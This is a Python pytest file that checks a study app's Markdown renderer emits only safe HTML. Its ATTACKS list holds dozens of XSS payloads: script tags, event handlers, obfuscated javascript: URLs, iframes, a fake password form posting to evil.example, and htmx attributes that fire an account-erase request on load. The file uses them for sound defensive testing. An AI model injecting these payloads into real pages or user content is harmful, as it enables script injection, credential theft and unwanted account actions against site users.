"""Markdown becomes HTML that can do nothing: held against a corpus of attacks."""

import re
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest

from studyapp.content.markdown import (
    Heading,
    link_chip,
    macros,
    popover_chip,
    render,
    render_line,
    render_text,
    with_chips,
)

TAGS = {"a", "abbr", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em"}
TAGS |= {"h2", "h3", "h4", "hr", "img", "kbd", "li", "ol", "p", "pre", "section", "span", "strong"}
TAGS |= {"sub", "summary", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"}
ATTRIBUTES = {"alt", "class", "data-block", "data-fact", "height", "href", "id", "open", "rel"}
ATTRIBUTES |= {"scope", "src", "tabindex", "title", "width"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    '<img src="/static/x.png" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img src="//evil.example/pixel.png">',
    '<img src="https://evil.example/pixel.png">',
    "![pixel](//evil.example/pixel.png)",
    "![pixel](https://evil.example/pixel.png)",
    '<img srcset="https://evil.example/pixel.png 2x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="\njava\nscript:alert(1)">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](http://insecure.example/)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    '<button formaction="https://evil.example/" form="read-mark">x</button>',
    "<style>body { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<p style="position:fixed;inset:0">x</p>',
    'x\n{: style="position:fixed" }',
    "x\n{: onclick=alert(1) }",
    "**x**{: onmouseover=alert(1) style=color:red }",
    '<div hx-get="/account/erase/" hx-trigger="load">x</div>',
    '<div data-hx-post="/account/erase/" data-hx-trigger="load">x</div>',
    "x\n{: hx-get=/account/erase/ hx-trigger=load }",
    "x\n{: data-hx-post=/account/erase/ data-hx-trigger=load }",
    '<a hx-on:click="alert(1)" href="/">x</a>',
    '<button popovertarget="fact-mem-max" popovertargetaction="show">x</button>',
    '<span popovertarget="main" popover id="status">x</span>',
    '<div popover id="fact-mem-max">x</div>',
    '<a href="/" target="_blank" download ping="https://evil.example/">x</a>',
    '<textarea autofocus onfocus="alert(1)"></textarea>',
    '<details ontoggle="alert(1)" open><summary>x</summary></details>',
    '<video src="https://evil.example/x.mp4" autoplay></video><audio src="//evil.example/x">',
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '{{ eg "<script>alert(1)</script>" }}',
    '{{ fact "mem-max" "<img src=x onerror=alert(1)>" }}',
    "{{ fact \"x' onclick='alert(1)\" }}",
    "| a | b |\n|:-:|--:|\n| 1 | 2 |",
    '*[HTML]: "><script>alert(1)</script>\n\nHTML',
    "note[^1]\n\n[^1]: <script>alert(1)</script>",
    '??? note "<script>alert(1)</script>"\n    text',
    '!!! note "<img src=x onerror=alert(1)>"\n    text',
    "## <script>alert(1)</script> {#x onclick=alert(1)}",
    "## Heading {: style=color:red id='\"><script>' }",
]


SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
BLANKS = "".join(map(chr, range(33)))


class Judge(HTMLParser):
    """Reads HTML as a browser does and keeps what should not be there."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            # A browser drops tabs and line breaks in an address, and blanks around it.
            scheme = SCHEME.match(re.sub(r"[\t\r\n]", "", value or "").strip(BLANKS))
            if name == "href" and scheme and scheme[0].lower() != "https:":
                self.found.append(f"{tag} {name}={value}")
            if name == "src" and not value.startswith("/static/"):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data):
        self.found.append(f"comment {data}")

    handle_decl = unknown_decl = handle_pi = handle_comment


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "Before {} after", "> {}", "- {}\n- b", "a\n\n{}\n\nb"])
def test_an_attack_leaves_nothing_behind(attack, around):
    source = around.format(attack) if "\n" not in attack or around == "{}" else attack

    htmls = [html for kind, html in render(source).blocks if kind == "html"]
    htmls += [render_text(source), render_line(source)]

    for html in htmls:
        assert Judge(html).found == []


def test_the_judge_finds_what_a_cleaner_would_have_to_remove():
    assert Judge('<b x="1" onclick="y">').found == ["b", "b x", "b onclick"]
    assert Judge('<a href="javascript:x">').found == ["a href=javascript:x"]
    assert Judge('<a href=" java\tscript:x">').found == ["a href= java\tscript:x"]
    assert Judge('<img src="//x">').found == ["img src=//x"]
    assert Judge("<!-- x --><?x?>").found == ["comment  x ", "comment x?"]


def test_a_span_typed_by_an_author_is_no_more_than_a_macro():
    typed = render_text('<span data-fact="mem-max">999 MB</span>')
    strange = render_text('<span data-fact="mem-max"><a href="/x">999</a></span>')

    assert chips(typed) == '<p><a class="fact" href="/facts/mem-max/">999 MB</a></p>'
    assert "fact" not in chips(strange).replace("data-fact", "")


def test_a_block_typed_by_an_author_names_a_block_at_most():
    html = '<span data-block="prompt:x" data-fact="y">z</span>'

    assert render(f"<p>{html}</p>").blocks == (("html", f"<p>{html}</p>"),)


# What is allowed comes through.


def test_headings_have_their_own_ids_and_a_link_to_themselves():
    rendered = render("## First part {#first}\n\n### Deeper {#deeper}\n\n## Second")
    [(_, html)] = rendered.blocks

    assert '<h2 id="first">First part<a class="anchor" href="#first"' in html
    assert '<h3 id="deeper">' in html
    assert '<h2 id="second">' in html
    assert rendered.headings == (Heading("first", "First part"), Heading("second", "Second"))


@pytest.mark.parametrize(
    ("link", "href"),
    [
        ("lesson:permissions#who-may-call", "/learn/permissions/#who-may-call"),
        ("lesson:permissions", "/learn/permissions/"),
        ("https://docs.aws.amazon.com/lambda/", "https://docs.aws.amazon.com/lambda/"),
        ("#first", "#first"),
    ],
)
def test_a_link_leads_where_it_says(link, href):
    assert f'href="{href}"' in render_text(f"[words]({link})")


@pytest.mark.parametrize("link", ["lesson:Per", "lesson:a/../b", "lesson:a?x", "lesson:"])
def test_a_link_to_no_lesson_has_no_target(link):
    assert "href" not in render_text(f"[words]({link})")


def test_tables_are_aligned_by_class_and_can_be_scrolled():
    [(_, html)] = render("| a | b |\n|:--|--:|\n| 1 | 2 |").blocks

    assert html.startswith('<div class="table-wrap" tabindex="0"><table>')
    assert '<th scope="col" class="to-left">' in html or '<th class="to-left" scope="col">' in html
    assert '<td class="to-right">2</td>' in html


def test_admonitions_and_folds_keep_their_classes():
    text = '!!! exam "In the exam"\n    Choose.\n\n??? beyond "Beyond"\n    More.\n'

    html = render_text(text)

    assert '<div class="admonition exam">' in html
    assert '<details class="beyond">\n<summary>Beyond</summary>' in html


def test_code_is_highlighted_by_classes():
    html = render_text('```json\n{"a": 1}\n```')

    assert '<div class="highlight"><pre>' in html
    assert '<span class="nt">"a"</span>' in html.replace("&quot;", '"')


def test_own_images_stay():
    assert 'src="/static/img/x.svg"' in render_text("![alt](/static/img/x.svg)")


# Macros.


FACTS = {"mem-max": SimpleNamespace(key="mem-max", label="10,240 MB")}
FACTS["odd"] = SimpleNamespace(key="odd", label='<b> & "c"')


def chips(html, chip=link_chip):
    return with_chips(html, FACTS, chip)


def test_a_fact_becomes_a_chip_with_the_words_of_the_ledger():
    assert chips(render_line('At most {{ fact "mem-max" }}.')) == (
        'At most <a class="fact" href="/facts/mem-max/">10,240 MB</a>.'
    )


def test_a_chip_may_have_its_own_label():
    html = render_line('{{ fact "mem-max" "10 GB" }}')

    assert chips(html, popover_chip) == (
        '<button type="button" class="fact" popovertarget="fact-mem-max">10 GB</button>'
    )


def test_a_chip_that_is_due_says_so():
    chip = popover_chip(FACTS["mem-max"], "x", due=True)

    assert chip.startswith('<button type="button" class="fact" data-due popovertarget=')


def test_a_label_of_the_ledger_is_escaped():
    assert ">&lt;b&gt; &amp; &quot;c&quot;</a>" in chips(render_line('{{ fact "odd" }}'))


def test_a_fact_that_is_gone_leaves_its_label():
    assert chips(render_line('Up to {{ fact "gone" "10 GB" }}.')) == "Up to 10 GB."


def test_an_example_is_plain_text():
    assert render_line('say {{ eg "1,500 ms" }}') == "say 1,500 ms"


@pytest.mark.parametrize("source", ['`{{ fact "mem-max" }}`', '```text\n{{ fact "mem-max" }}\n```'])
def test_a_macro_in_code_stays_as_it_is_written(source):
    html = chips(render_text(source))

    assert '{{ fact "mem-max" }}' in html.replace("&quot;", '"')
    assert "<a" not in html


def test_blocks_stand_in_the_order_of_reading():
    source = 'One.\n\n{{ prompt "a" }}\n\n{{ figure "b" }}\n\nTwo.\n\n{{ then_now "c" }}\n'

    assert render(source).blocks == (
        ("html", "<p>One.</p>"),
        ("prompt", "a"),
        ("figure", "b"),
        ("html", "<p>Two.</p>"),
        ("then_now", "c"),
    )


def test_every_macro_is_listed():
    source = '{{ fact "a" "b" }} {{eg "c"}} {{ prompt "d" }} {{ nothing "e" }} {{ fact a }}'

    assert macros(source) == [("fact", "a", "b"), ("eg", "c", ""), ("prompt", "d", "")]


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("one", "one"),
        ("one\n\ntwo", "<p>one</p>\n<p>two</p>"),
        ("- one", "<ul>\n<li>one</li>\n</ul>"),
        ("*one*", "<em>one</em>"),
        ("", ""),
    ],
)
def test_a_line_loses_the_paragraph_around_a_single_one(source, html):
    assert render_line(source) == html


# What would take minutes is refused.


@pytest.mark.parametrize(
    ("source", "message"),
    [
        ("x" * 100_001, "this text is too long"),
        ("[" * 2_001, "this text is too long"),
        ("a " + "`" * 9, "this text has too many backticks in a row"),
        ("1. " * 1_500, "this text is nested too deeply"),
    ],
)
def test_a_text_that_costs_too_much_is_refused(source, message):
    with pytest.raises(ValueError, match=message):
        render_text(source)


@pytest.mark.parametrize("source", ["x" * 100_000, "a " + "`" * 8, "> " * 40 + "x"])
def test_a_text_at_the_limit_is_read(source):
    assert render_text(source)
